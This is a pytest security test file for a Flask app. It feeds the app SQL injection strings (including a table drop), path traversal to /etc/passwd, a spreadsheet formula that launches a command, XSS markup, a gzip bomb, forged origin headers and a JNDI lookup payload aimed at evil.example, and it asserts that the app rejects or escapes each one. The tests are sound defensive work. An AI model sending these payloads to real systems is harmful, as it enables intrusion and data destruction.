"""Attacks on one app: injection, scripts in texts, forgery from other sites, tampered headers and cursors.

docs/security.md lists them all, with those that need a server of their own or a receiver.
"""

import base64
import gzip
import json
import statistics
import time
from collections.abc import Iterator
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from flask.testing import FlaskClient

from service.settings import Settings
from service.store import Store
from service.web import create_app
from tests.cost import cost
from tests.web.samples import FERRY, figure_of
from tests.web.test_access import bearer
from tests.web.test_bad_input import told

SECURITY = Path(__file__).parents[2] / "docs" / "security.md"
INJECTED = [
    "' OR '1'='1",
    '"; DROP TABLE figures; --',
    "x' UNION SELECT digest, secret FROM tokens --",
    'NEAR("a" "b") OR *',
    "{{7*7}}${7*7}<%= 7*7 %>",
    "../../../../etc/passwd",
    "a\0b",
    "\r\nSet-Cookie: own=1",
    "-1",
    "9" * 40,
    "\u202e\ufeff\U0001f4a3",
    "x" * 1_500,
]


@pytest.fixture
def spec(client: FlaskClient) -> dict[str, Any]:
    found: dict[str, Any] = client.get("/openapi.json").get_json()
    return found


def reads(spec: dict[str, Any]) -> Iterator[tuple[str, list[str], list[str]]]:
    """Each path that is read, the names in it, and its query parameters."""
    for path, item in spec["paths"].items():
        if "get" in item:
            known = [*item.get("parameters", []), *item["get"].get("parameters", [])]
            inside = [one["name"] for one in known if one["in"] == "path"]
            yield path, inside, [one["name"] for one in known if one["in"] == "query"]


@pytest.mark.parametrize("text", INJECTED, ids=range(len(INJECTED)))
def test_no_parameter_is_read_as_a_command(
    client: FlaskClient, ferry: dict[str, Any], spec: dict[str, Any], settings: Settings, text: str
) -> None:
    before = client.get("/v1/changes").data
    everything = len(client.get("/v1/figures").get_json()["items"])
    for path, inside, asked in reads(spec):
        plain = path.format(**dict.fromkeys(inside, ferry["id"] if "article" in path else "x"))
        urls = [f"{plain}?{name}={quote(text)}" for name in asked]
        urls += [path.format(**(dict.fromkeys(inside, "1") | {name: quote(text, safe="")})) for name in inside]
        for url in urls:
            answer = client.get(url)
            assert answer.status_code < 500, url
            if answer.status_code == 200 and url.startswith("/v1/figures?q="):
                assert len(answer.get_json()["items"]) < everything, url
    assert client.get("/v1/changes").data == before
    with Store.open(settings.database) as store:
        assert store.verify() == ()


@pytest.mark.parametrize("text", INJECTED, ids=range(len(INJECTED)))
def test_no_member_of_a_body_is_read_as_a_command(client: FlaskClient, settings: Settings, text: str) -> None:
    bodies: list[tuple[str, dict[str, Any]]] = [
        ("/v1/articles", FERRY | {name: text}) for name in ("title", "publisher", "author", "id", "text", "language")
    ]
    bodies += [("/v1/statistics", {"name": text, "kind": "count", "unit": text, "definition": text, "reason": text})]
    bodies += [("/v1/judgements", {"a": text, "b": "Coastguard", "ruling": "same", "reason": text, "actor": text})]
    bodies += [
        ("/v1/compare", {"figures": [text, "f1"]}),
        ("/v1/check", {"text": text}),
        ("/v1/extract", {"html": text}),
    ]
    bodies += [("/v1/webhooks", {"url": text}), ("/v1/webhooks", {"url": "https://192.0.2.1/", "statistic": text})]
    for path, body in bodies:
        assert client.post(path, json=body).status_code < 500, (path, body)
        assert client.post(path, json=body, headers={"Idempotency-Key": quote(text)[:200]}).status_code < 500
    with Store.open(settings.database) as store:
        assert store.verify() == ()


def test_a_text_that_a_spreadsheet_would_run_is_told_as_text(client: FlaskClient) -> None:
    client.post("/v1/articles", json=FERRY | {"publisher": "=cmd|'/c calc'!A1"})
    for path in ("/v1/figures?format=csv&fields=article.publisher", "/v1/export?format=csv"):
        table = client.get(path).get_data(as_text=True)
        assert "=cmd" in table
        assert not any(cell.startswith("=") for line in table.splitlines() for cell in line.replace('"', "").split(","))


def test_a_body_that_would_unpack_to_more_is_not_unpacked(client: FlaskClient) -> None:
    bomb = gzip.compress(b'{"text": "' + b"9" * 10_000_000 + b'"}')
    head = {"Content-Encoding": "gzip", "Content-Type": "application/json"}
    told(client.post("/v1/articles", data=bomb, headers=head), 400)


@pytest.mark.parametrize("unit", ["9", "1,", "5-", "(", '"', "5 million "])
def test_no_text_takes_longer_than_its_length_explains(client: FlaskClient, unit: str) -> None:
    def read(size: int) -> None:
        text = unit * (size // len(unit)) + "5 men"
        assert client.post("/v1/extract", json={"text": text}).status_code == 200

    assert cost(lambda: read(40_000)) < 30 * cost(lambda: read(4_000))


SCRIPT = '<script>alert(1)</script>"><img src=x onerror=alert(2)>'


class Tags(HTMLParser):
    """What a browser would run in a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.scripts: list[str | None] = []
        self.handlers: list[str] = []
        self.links: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        said = dict(attrs)
        self.scripts += [said.get("src")] if tag == "script" else []
        self.handlers += [name for name in said if name.startswith("on") or name == "style"]
        self.links += [said.get(name) or "" for name in ("href", "src", "action") if name in said]


@pytest.fixture
def hostile(client: FlaskClient) -> dict[str, Any]:
    """An article, and a statistic, with markup in every place that takes text."""
    text = f"{SCRIPT} A ferry with 212 passengers ran aground off Larne on Monday. “Of them 37 {SCRIPT} were injured,” "
    text += f"said {SCRIPT} Coastguard. Police <b>hold</b> 19 men, according to <i>Ann</i> Smith of {SCRIPT}."
    article = {"text": text, "title": SCRIPT, "publisher": SCRIPT, "author": SCRIPT, "id": SCRIPT}
    posted: dict[str, Any] = client.post("/v1/articles", json=article).get_json()
    client.post("/v1/articles", json=article | {"text": text.replace("212", "215")})
    figure = posted["figures"][0]
    change = {
        "measured": SCRIPT,
        "kind": "measurement",
        "unit": SCRIPT,
        "sources": [{"name": SCRIPT}],
        "place": SCRIPT,
        "reason": SCRIPT,
    }
    head = {"If-Match": "*"}
    assert client.patch(f"/v1/figures/{figure['id']}", json=change | {"actor": SCRIPT}, headers=head).status_code == 200
    new = {"name": SCRIPT, "definition": SCRIPT, "kind": "count", "unit": SCRIPT, "reason": SCRIPT}
    made = client.post("/v1/statistics", json=new).get_json()
    move = {"statistic": made["id"], "reason": SCRIPT}
    client.patch(f"/v1/figures/{figure['id']}", json=move, headers=head)
    return {"article": posted["id"], "figure": figure["id"], "statistic": made["id"]}


def test_no_page_runs_what_a_text_says(client: FlaskClient, hostile: dict[str, Any]) -> None:
    page = {"Accept": "text/html"}
    asked = ["/", "/about", "/check", "/extract", "/ingest", "/edits", "/review"]
    asked += [f"/search?q={quote(SCRIPT)}", f"/{quote(SCRIPT)}"]
    asked += [f"/{kind}s/{identity}" for kind, identity in hostile.items()]
    answers = [client.get(path, headers=page) for path in asked]
    answers += [
        client.post(path, data={"text": f"{SCRIPT} Police hold 19 men.", "published_at": day}, headers=page)
        for path in ("/check", "/extract", "/ingest")
        for day in (SCRIPT, "")
    ]
    for answer in answers:
        assert answer.status_code < 500
        found = Tags(answer.get_data(as_text=True))
        assert all(source and source.startswith("/") for source in found.scripts)
        assert found.handlers == []
        assert not any(link.lower().startswith(("javascript:", "data:text", "vbscript:")) for link in found.links)


def test_a_question_is_shown_and_not_worked_out(client: FlaskClient) -> None:
    page = client.get("/search", query_string={"q": "{{1337*1337}}${1337*1337}{% raw %}"}).get_data(as_text=True)
    assert "{{1337*1337}}${1337*1337}{% raw %}" in page
    assert "1787569" not in page


def test_no_picture_or_feed_runs_what_a_text_says(client: FlaskClient, hostile: dict[str, Any]) -> None:
    for path in ("chart.svg", "feed.atom"):
        answer = client.get(f"/v1/statistics/{hostile['statistic']}/{path}")
        assert answer.status_code == 200
        assert b"<script" not in answer.data.lower()
        assert b"<img" not in answer.data.lower()


@pytest.mark.parametrize("path", ["/", "/check", "/docs", "/v1/figures", "/nothing", "/static/tallybook.css"])
def test_every_answer_forbids_scripts_of_others_and_to_be_framed(client: FlaskClient, path: str) -> None:
    head = client.get(path).headers
    policy = dict(part.strip().split(" ", 1) for part in head["Content-Security-Policy"].split(";"))
    assert policy["default-src"] == "'none'"
    assert policy["script-src"] == "'self'"
    assert policy["frame-ancestors"] == "'none'"
    assert policy["base-uri"] == "'none'"
    assert "unsafe" not in head["Content-Security-Policy"]
    assert head["X-Content-Type-Options"] == "nosniff"
    assert "Set-Cookie" not in head


def test_an_address_that_is_script_is_refused(client: FlaskClient) -> None:
    for url in ("javascript:alert(1)", "data:text/html,<script>", "JaVaScRiPt:alert(1)", " javascript:alert(1)"):
        told(client.post("/v1/articles", json=FERRY | {"url": url}), 422)


FORGED: list[dict[str, str]] = [
    {"Origin": "https://evil.example"},
    {"Origin": "null"},
    {"Origin": "http://localhost.evil.example"},
    {"Origin": "http://localhost:1"},
    {"Sec-Fetch-Site": "cross-site"},
    {"Sec-Fetch-Site": "same-site"},
    {"Sec-Fetch-Site": "cross-site", "Origin": "http://localhost"},
]


@pytest.mark.parametrize("head", FORGED, ids=str)
@pytest.mark.parametrize("kind", ["application/json", "text/plain", "application/x-www-form-urlencoded"])
def test_what_a_page_of_another_site_sends_changes_nothing(
    client: FlaskClient, head: dict[str, str], kind: str
) -> None:
    for path in ("/v1/articles", "/v1/statistics", "/v1/judgements", "/v1/webhooks", "/check", "/extract", "/ingest"):
        told(client.post(path, data=json.dumps(FERRY), content_type=kind, headers=head), 403)
    assert len(client.get("/v1/changes").get_json()["items"]) == 1


@pytest.mark.parametrize("kind", ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"])
def test_what_a_form_could_send_is_no_json(client: FlaskClient, kind: str) -> None:
    told(client.post("/v1/articles", data=json.dumps(FERRY), content_type=kind), 415)


def test_a_page_of_our_own_may_send(client: FlaskClient) -> None:
    for head in ({"Origin": "http://localhost"}, {"Sec-Fetch-Site": "same-origin"}, {"Sec-Fetch-Site": "none"}):
        assert client.post("/check", data={"text": "Police hold 19 men."}, headers=head).status_code == 200


def test_a_site_that_was_let_in_may_call_the_api_and_no_other_may(settings: Settings) -> None:
    client = create_app(replace(settings, cors_origins="https://desk.example")).test_client()
    head = {"Origin": "https://desk.example", "Sec-Fetch-Site": "cross-site"}
    answer = client.post("/v1/extract", json={"text": "Police hold 19 men."}, headers=head)
    assert (answer.status_code, answer.headers["Access-Control-Allow-Origin"]) == (200, "https://desk.example")
    assert "Access-Control-Allow-Credentials" not in answer.headers
    told(client.post("/check", data={"text": "x"}, headers=head), 403)
    other = client.get("/v1/figures", headers={"Origin": "https://desk.example.evil.example"})
    assert "Access-Control-Allow-Origin" not in other.headers


@pytest.mark.parametrize("host", ["evil.example", "localhost.evil.example", "127.0.0.1.evil.example", "192.0.2.1", ""])
def test_a_name_that_was_made_to_point_to_the_desk_is_refused(client: FlaskClient, host: str) -> None:
    """DNS rebinding: the page's own name resolves to this machine, so the browser takes it for the same site."""
    assert client.get("/v1/articles", headers={"Host": host}).status_code in (400, 403)
    assert client.post("/v1/articles", json=FERRY, headers={"Host": host}).status_code in (400, 403)


def test_no_way_to_write_an_address_or_a_method_escapes_a_scope(settings: Settings) -> None:
    with Store.open(settings.database) as store:
        head = bearer(store.tokens().create("reader", "read")[1])
    client = create_app(settings).test_client()
    paths = ["/v1//webhooks", "/v1/webhooks/", "/V1/webhooks", "/v1/./webhooks", "//v1/webhooks", "/v1/webhooks%2f"]
    paths += ["/v1/webhooks?scope=admin", "/v1/figures/../webhooks", "/static/../v1/webhooks", "/v1/%77ebhooks"]
    for path in paths:
        assert client.get(path, headers=head).status_code in (301, 308, 400, 403, 404), path
    for name in ("X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"):
        assert client.get("/v1/articles", headers=head | {name: "POST"}).status_code == 200
        told(client.post("/v1/articles", json=FERRY, headers=head | {name: "GET"}), 403)
    for name in ("X-Forwarded-For", "X-Real-Ip", "X-Original-Url", "X-Rewrite-Url", "Forwarded"):
        assert client.get("/v1/articles", headers={name: "127.0.0.1"}).status_code == 401
    with Store.open(settings.database) as store:
        assert store.head().id == 1


def test_a_cursor_that_was_changed_is_refused_or_gives_what_it_says(client: FlaskClient, ferry: dict[str, Any]) -> None:
    following = client.get("/v1/figures?limit=1").get_json()["next"]
    cursor = following.rpartition("cursor=")[2]
    for at in range(0, len(cursor), 3):
        for letter in "Az0_":
            changed = cursor[:at] + letter + cursor[at + 1 :]
            assert client.get("/v1/figures", query_string={"limit": 1, "cursor": changed}).status_code in (200, 422)
    for path in ("/v1/articles", "/v1/statistics", "/v1/figures?sort=-value", "/v1/figures?q=ferry"):
        told(client.get(f"{path}{'&' if '?' in path else '?'}cursor={cursor}"), 422)
    future = base64.urlsafe_b64encode(json.dumps([99, "figures", [1]]).encode()).decode()
    told(client.get("/v1/figures", query_string={"cursor": future}), 422)


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("If-Match", '"f0.1.000000000000", W/"x", *'),
        ("If-Match", '"' * 1000),
        ("If-None-Match", "\\" * 1000),
        ("Accept", "text/csv;q=9e999, */*;q=nan"),
        ("Accept", "," * 2000),
        ("Accept-Encoding", "zstd;q=-1, \x80"),
        ("Range", "bytes=0-1,0-1,0-1"),
        ("Content-Length", "-1"),
        ("Content-Type", "application/json; charset=utf-7"),
        ("Idempotency-Key", "' OR 1=1"),
        ("X-Request-Id", "${jndi:ldap://evil.example}"),
        ("Authorization", "Basic " + "A" * 5000),
        ("Cookie", "session=" + "A" * 2000),
    ],
)
def test_a_header_that_was_tampered_with_breaks_nothing(
    client: FlaskClient, ferry: dict[str, Any], name: str, value: str
) -> None:
    path = f"/v1/figures/{figure_of(ferry, '37')['id']}"
    for method, body in (("GET", None), ("PATCH", {"state": "confirmed", "reason": "seen"})):
        answer = client.open(path, method=method, json=body, headers={name: value})
        assert answer.status_code < 500
        assert "evil" not in str(answer.headers)
    assert client.post("/v1/statistics", json={"name": "x"}, headers={name: value}).status_code < 500


def test_how_long_a_wrong_token_takes_does_not_tell_how_much_of_it_is_right(settings: Settings) -> None:
    with Store.open(settings.database) as store:
        tokens = store.tokens()
        right = tokens.create("wire", "read")[1]
        swap = {"A": "B"}
        first = right[:19] + swap.get(right[19], "A") + right[20:]
        last = right[:-1] + swap.get(right[-1], "A")
        times: dict[str, list[int]] = {first: [], last: [], "tally_000000000000_" + "x" * 43: []}
        for _ in range(400):
            for secret, taken in times.items():
                began = time.perf_counter_ns()
                assert tokens.find(secret) is None
                taken.append(time.perf_counter_ns() - began)
    medians = [statistics.median(taken) for taken in times.values()]
    assert max(medians) < 2 * min(medians)


def test_the_list_of_attacks_names_tests_that_there_are() -> None:
    named = [
        line.split("`")[-2] for line in SECURITY.read_text().splitlines() if line.startswith("| ") and "`test_" in line
    ]
    everything = "\n".join(path.read_text() for path in Path(__file__).parents[1].rglob("test_*.py"))
    assert len(named) >= 40
    assert [name for name in named if f"def {name}(" not in everything] == []
